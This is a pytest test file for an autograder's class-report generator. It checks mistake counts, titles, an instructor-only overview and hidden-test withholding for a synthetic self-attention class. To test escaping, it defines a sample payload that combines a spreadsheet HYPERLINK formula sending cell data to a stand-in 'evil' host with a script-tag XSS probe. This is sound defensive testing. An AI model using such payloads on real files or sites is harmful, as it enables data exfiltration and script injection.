"""The class report on a synthetic class whose outcomes are known.

Notebook 05, three exercises as graded (softmax, attention in NumPy, the think-first crossover):
passers, students who handed the release in untouched (blanks), students whose answer raised,
catalogued mistakes, wrong answers no mistake explains, cells that did not run, and one student
not graded at all. The messages are the ones the grader really writes: an untouched stub fails
its test cell with the visible test's "NotImplementedError: " or the hidden check's "`softmax`
raised NotImplementedError when called with ..."; an untouched think-first value (its stub defines
nothing) with "NameError: name 'crossover_n' is not defined".
"""
import csv
import html
import re

import pytest

from autograder import report
from course_utils.reference.mistakes import self_attention as catalogue

A, NB = "05_self_attention", "self_attention"
SOFTMAX = catalogue.EXERCISES["self_attention_softmax"]
ATTENTION = catalogue.EXERCISES["self_attention_attention_numpy"]
FIRST, SECOND = SOFTMAX.mistakes[0], SOFTMAX.mistakes[1]
WRONG_AXIS = ATTENTION.mistakes[0]
POINTS = {"self_attention_softmax": 2.0, "self_attention_attention_numpy": 3.0, "self_attention_crossover": 1.0}
BLANK = {"self_attention_softmax": "NotImplementedError: ",
         "self_attention_attention_numpy": "GradingError: `attention_numpy` raised NotImplementedError when "
                                           "called with shape (4, 5), shape (4, 5), shape (4, 3).",
         "self_attention_crossover": "NameError: name 'crossover_n' is not defined"}
RAISES = "GradingError: `softmax` raised IndexError (tuple index out of range) when called with shape (3, 3) (line 4: `m = x.max(axis=2)`)."
ODD = "GradingError: `softmax` gives a wrong answer on a hidden test case: row 0 differs"
# a student's own exception, raised from their function: text they chose, formula and markup included
HOSTILE = "=HYPERLINK(\"http://evil/?\"&A2, \"x\") <script>alert(1)</script>"
HIDDEN_LINE = "assert np.allclose(softmax(secret_case), expected_secret)"


def _result(student, messages=None, status="graded"):
    """messages: {exercise: message} of the cells that fail; the others pass."""
    messages = messages or {}
    return {"student": student, "assignment": A, "status": status,
            "cells": [] if status != "graded" else
            [{"notebook": NB, "grade_id": ex + "_tests", "max_score": pts,
              "score": 0.0 if messages.get(ex) else pts, "message": messages.get(ex, "")}
             for ex, pts in POINTS.items()]}


def _class():
    results = [_result(f"passer{i}") for i in range(4)]
    results += [_result(f"blank{i}", dict(BLANK)) for i in range(3)]  # handed in the release untouched
    results += [_result(f"first{i}", {"self_attention_softmax": f"GradingError: {FIRST.message}"}) for i in range(3)]
    results += [_result("second0", {"self_attention_softmax": f"GradingError: {SECOND.message}",
                                    "self_attention_attention_numpy": f"GradingError: {WRONG_AXIS.message}"})]
    results += [_result("raiser0", {"self_attention_softmax": RAISES}),
                _result("raiser1", {"self_attention_softmax": RAISES}),
                _result("odd0", {"self_attention_softmax": ODD}),
                # an exception class can be given any name: type("=HYPERLINK(...)", (Exception,), {})
                _result("hostile0", {"self_attention_attention_numpy": HOSTILE + ": boom"})]
    results += [_result("late0", {ex: "NotRun: This cell was not run: the kernel died in cell x." for ex in POINTS}),
                _result("slow0", {"self_attention_softmax": "Timeout: This cell ran longer than 60 s and was interrupted."})]
    results += [_result("absent0", status="not_submitted"), _result("broken0", status="could_not_grade")]
    return results


@pytest.fixture()
def written(tmp_path):
    (tmp_path / "feedback" / "passer0" / A).mkdir(parents=True)  # as the batch leaves it
    paths = report.write(_class(), str(tmp_path))
    with open(tmp_path / "mistakes.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    return tmp_path, paths, rows


def _count(rows, exercise, outcome, mistake=""):
    """students (and checks the share: of the 17 graded students) of one row of mistakes.csv."""
    found = [r for r in rows if r["exercise"] == exercise and r["outcome"] == outcome and r["mistake"] == mistake]
    if not found:
        return 0
    assert found[0]["share"] == f"{int(found[0]['students']) / 17:.3f}", found[0]
    return int(found[0]["students"])


def test_each_cell_gets_its_outcome_and_a_blank_is_never_a_mistake(written):
    _, _, rows = written
    sm = "self_attention_softmax"
    assert _count(rows, sm, "passed") == 5  # the passers and hostile0
    assert _count(rows, sm, "not attempted") == 3
    assert _count(rows, sm, "mistake", FIRST.name) == 3
    assert _count(rows, sm, "mistake", SECOND.name) == 1
    assert _count(rows, sm, "wrong, not named") == 3  # two raisers and one odd answer
    assert _count(rows, sm, "did not run") == 2  # a dead kernel, a timeout
    assert sum(int(r["students"]) for r in rows if r["exercise"] == sm) == 17  # the graded students
    am = "self_attention_attention_numpy"
    assert _count(rows, am, "passed") == 11
    assert _count(rows, am, "not attempted") == 3  # "... raised NotImplementedError ..."
    assert _count(rows, am, "mistake", WRONG_AXIS.name) == 1
    assert _count(rows, am, "wrong, not named") == 1
    assert _count(rows, am, "did not run") == 1
    cx = "self_attention_crossover"
    assert _count(rows, cx, "not attempted") == 3  # its stub defines nothing: NameError
    assert _count(rows, cx, "wrong, not named") == 0
    assert not any(r["outcome"] in ("uncatalogued", "not run") for r in rows)


def test_mistakes_are_given_in_the_catalogues_words_and_exercises_by_their_titles(written):
    out, _, rows = written
    row = next(r for r in rows if r["mistake"] == FIRST.name)
    assert row["description"] == FIRST.message and row["outcome"] == "mistake"
    titles = {r["exercise"]: r["title"] for r in rows}
    assert titles["self_attention_softmax"] == "Exercise 1 · A stable softmax"
    assert titles["self_attention_attention_numpy"] == "Exercise 2 · Attention in NumPy"
    assert titles["self_attention_crossover"].startswith("Exercise 6 · Think before you run")
    unnamed = next(r for r in rows if r["exercise"] == "self_attention_softmax" and r["outcome"] == "wrong, not named")
    assert unnamed["description"].startswith("2x " + RAISES[:40])  # the most frequent message first, counted
    page = (out / "report.html").read_text()
    assert html.escape(FIRST.message) in page and "A stable softmax" in page
    assert "self_attention_softmax_tests" not in page


def test_exercise_titles_come_from_the_headings_students_saw():
    import nbformat
    nb = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_markdown_cell("# 99 · A notebook\n\n### Exercise 1: `rnn_step` (2 points)\nWrite it."),
        nbformat.v4.new_code_cell("raise NotImplementedError()", metadata={"nbgrader": {"grade_id": "x_step", "solution": True}}),
        nbformat.v4.new_markdown_cell("#### A hint, not an exercise"),
        nbformat.v4.new_code_cell("assert 1", metadata={"nbgrader": {"grade_id": "x_step_tests", "grade": True, "points": 2}}),
        nbformat.v4.new_markdown_cell("## A section\n\n### Think first · how deep? (1 point)"),
        nbformat.v4.new_code_cell("", metadata={"nbgrader": {"grade_id": "x_depth", "solution": True}}),
        nbformat.v4.new_code_cell("", metadata={"nbgrader": {"grade_id": "x_depth_tests", "grade": True, "points": 1}}),
        nbformat.v4.new_markdown_cell("## Another section: a heading, not an exercise's"),
        nbformat.v4.new_code_cell("", metadata={"nbgrader": {"grade_id": "y_f", "solution": True}}),
        nbformat.v4.new_code_cell("", metadata={"nbgrader": {"grade_id": "y_f_tests", "grade": True, "points": 1}}),
    ])
    nb.cells.insert(0, nbformat.v4.new_code_cell("", metadata={"nbgrader": {"grade_id": "z_first", "solution": True}}))
    titles = report.exercise_titles(nb)
    # no exercise heading over them (none yet; a new section): the report falls back to the grade id
    assert not {"z_first", "y_f", "y_f_tests"} & set(titles)
    assert titles == {"x_step": "Exercise 1: `rnn_step`", "x_step_tests": "Exercise 1: `rnn_step`",
                      "x_depth": "Think first · how deep?", "x_depth_tests": "Think first · how deep?"}


def test_an_assignment_without_release_or_catalogue_is_reported_by_its_grade_ids(tmp_path):
    """A class graded from another course folder (the grading fixtures): no notebook here to
    title it, no catalogue to name a mistake; blanks and wrong answers are still told apart."""
    def result(student, message):
        return {"student": student, "assignment": "99_elsewhere", "status": "graded",
                "cells": [{"notebook": "elsewhere", "grade_id": "elsewhere_f_tests", "max_score": 1.0,
                           "score": 0.0 if message else 1.0, "message": message}]}
    results = [result("a", ""), result("b", "NotImplementedError: "), result("c", "AssertionError: ")]
    report.write(results, str(tmp_path))
    with open(tmp_path / "mistakes.csv", newline="") as fh:
        rows = {r["outcome"]: r for r in csv.DictReader(fh)}
    assert set(rows) == {"passed", "not attempted", "wrong, not named"}
    assert {r["title"] for r in rows.values()} == {"elsewhere_f"}
    assert "elsewhere_f" in (tmp_path / "report.html").read_text()


def test_the_top_five_count_only_wrong_answers_and_blanks_are_counted_apart(written):
    out, _, _ = written
    page = (out / "report.html").read_text()
    top = page.split("The five most common mistakes", 1)[1].split("</table>", 1)[0]
    assert top.count("<tr>") == 1 + 5
    assert "not attempted" not in top and "did not run" not in top and "NotImplementedError" not in top
    assert top.index(html.escape(FIRST.message)) < top.index(html.escape(SECOND.message))
    assert "3 of 17" in top and "no catalogued mistake explains" in top
    blanks = page.split("<h2>Not attempted</h2>", 1)[1].split("</table>", 1)[0]
    assert blanks.count("3 of 17") == 3  # each of the three exercises, said apart
    assert "3 did not attempt it" in page


def test_the_report_is_self_contained_and_names_no_student(written):
    out, _, _ = written
    page = (out / "report.html").read_text()
    for result in _class():
        assert result["student"] not in page
    assert "<script" not in page.lower() and not re.search(r"(src|href)=['\"]https?:", page)
    assert "data:image/png;base64," in page
    assert "17 submission(s) graded; 2 not graded" in page  # said, not counted


def test_the_class_overview_is_instructor_only_escaped_and_never_in_feedback(written):
    out, paths, _ = written
    overview = out / "class_overview.html"
    assert str(overview) in paths
    assert (out / "feedback") not in overview.resolve().parents
    assert not list((out / "feedback").rglob("class_overview*"))
    page = overview.read_text()
    assert "INSTRUCTOR ONLY" in page and "noindex" in page
    assert "<script" not in page.lower() and "HYPERLINK" in page  # the hostile text is there, inert
    assert html.escape(HOSTILE) in page or html.escape(HOSTILE, quote=True) in page
    rows = {m.group(1): m.group(2) for m in re.finditer(r"<tr><th>(\w+)</th>(.*?)</tr>", page, re.S)}
    assert rows["blank0"].count("not attempted") == 3 and "0 / 6" in rows["blank0"]
    assert "passed" in rows["passer0"] and "6 / 6" in rows["passer0"]
    assert FIRST.name.replace("_", " ") in rows["first0"]
    assert ">wrong<" in rows["raiser0"] and "did not run" in rows["late0"]
    listed = page.split("Wrong (not named) and did not run: the messages", 1)[1]
    assert "raiser0" in listed and html.escape(RAISES) in listed  # readable without hovering
    assert html.escape(FIRST.message) in page.split("The mistakes named above", 1)[1]
    assert "not graded: not submitted" in rows["absent0"] and "could not grade" in rows["broken0"]
    order = [m.group(1) for m in re.finditer(r"<tr><th>(\w+)</th>", page)]
    assert order[1:3] == ["absent0", "broken0"] and order.index("late0") < order.index("passer0")  # who needs help first


def test_no_page_quotes_a_hidden_test(tmp_path):
    results = _class() + [_result("leaky0", {"self_attention_softmax": "ValueError: In[12] = " + HIDDEN_LINE})]
    report.write(results, str(tmp_path), secret_lines={A: {NB: [HIDDEN_LINE]}})
    for name in ("report.html", "class_overview.html", "mistakes.csv"):
        text = (tmp_path / name).read_text()
        assert HIDDEN_LINE not in text and html.escape(HIDDEN_LINE) not in text
    assert "withheld" in (tmp_path / "class_overview.html").read_text()


def test_no_cell_of_mistakes_csv_is_a_formula(written):
    _, _, rows = written
    assert [r for r in rows if "HYPERLINK" in r["description"]]  # the student's text is there, never first
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert report.inert("=1+1") == "'=1+1" and report.inert("\tx") == "'\tx" and report.inert("-2") == "'-2"
    assert report.inert("plain") == "plain" and report.inert(3) == 3


def test_the_overview_shows_each_students_extension(tmp_path):
    """Per-student extensions of the late policy appear beside the student's name (issue 29 item 6)."""
    from autograder import lms
    late = lms.LatePolicy.from_config({"due": {A: "2026-11-20T23:59:00+00:00"},
                                       "extensions": {"first0": "2 days", "first1": {A: "36 hours"}}})
    report.write(_class(), str(tmp_path), late=late)
    page = (tmp_path / "class_overview.html").read_text()
    assert "extension of 2 days" in page and "extension of 1 day 12 hours" in page, page[-2000:]
    assert page.count("extension of") == 2
    report.write(_class(), str(tmp_path))
    assert "extension of" not in (tmp_path / "class_overview.html").read_text()


def test_think_first_outcomes_with_the_students_own_numbers():
    """A catalogued sentence with the student's numbers filled in is still that mistake; an answer
    right for other numbers (another student's, or the example's) is a named outcome of its own,
    never 'wrong, not named' (each such message differs by its numbers)."""
    from course_utils.grading import questions
    from course_utils.reference.mistakes import causal_cnn

    grade_id = "causal_cnn_layers_needed"
    exercise = causal_cnn.EXERCISES[grade_id]
    rounded = next(m for m in exercise.mistakes if m.name == "layers_rounded_down")
    personal = exercise.personal("alice")
    steps = questions.numbers(grade_id, "alice")["steps"]
    filled = next(m for m in personal.mistakes if m.name == "layers_rounded_down").message
    assert f"{steps:,}" in filled and filled != rounded.message

    def outcome(message):
        return report.classify({"max_score": 1, "score": 0, "message": f"GradingError: `layers_needed`: {message}"},
                               exercise)

    assert (outcome(filled).kind, outcome(filled).mistake) == (report.MISTAKE, "layers_rounded_down")
    right_for_bob = exercise.personal("bob").reference
    for answer, name in ((right_for_bob, "another_students_numbers"), (exercise.example().reference, "example_numbers")):
        try:
            personal.check(answer)
        except Exception as error:  # noqa: BLE001 - the GradingError's sentence is what the report reads
            message = str(error)
        else:
            continue  # bob's numbers happen to give alice's answer: nothing to classify
        got = outcome(message)
        assert (got.kind, got.mistake) == (report.MISTAKE, name), message
    assert outcome("something else entirely").kind == report.UNNAMED


def test_a_forbidden_route_is_an_integrity_finding_and_habits_are_worth_a_look(tmp_path):
    """A route the reader decided has its own outcome (never "wrong, not named"); the lines it
    could not tell from a habit are listed for the instructor, costing nothing (issue 37 item 8)."""
    from autograder import routes
    route = ("GradingError: " + routes.FORBIDDEN_ROUTE + "`softmax` reaches `scipy.special.softmax` "
             "(the line `from scipy.special import softmax`): this exercise asks you to write it without it")
    cheat = _result("cheat0", {"self_attention_softmax": route})
    habit = _result("habit0")
    habit["review"] = ["self_attention.ipynb: worth a look: cell 3 runs `np.exp?`, a magic the grader does not read"]
    report.write(_class() + [cheat, habit], str(tmp_path))
    with open(tmp_path / "mistakes.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    row = next(r for r in rows if r["outcome"] == "forbidden route")
    assert row["exercise"] == "self_attention_softmax" and row["students"] == "1"
    assert "scipy.special.softmax" in row["description"]
    assert not any("scipy.special.softmax" in r["description"] for r in rows if r["outcome"] == "wrong, not named")
    page = (tmp_path / "report.html").read_text()
    assert "took a forbidden route" in page
    top = page.split("The five most common mistakes", 1)[1].split("</table>", 1)[0]
    assert "scipy.special.softmax" not in top
    overview = (tmp_path / "class_overview.html").read_text()
    cells = {m.group(1): m.group(2) for m in re.finditer(r"<tr><th>(\w+)</th>(.*?)</tr>", overview, re.S)}
    assert "forbidden route" in cells["cheat0"] and ">wrong<" not in cells["cheat0"]
    assert "Worth a look" in overview and html.escape("`np.exp?`") in overview
    assert "6 / 6" in cells["habit0"]
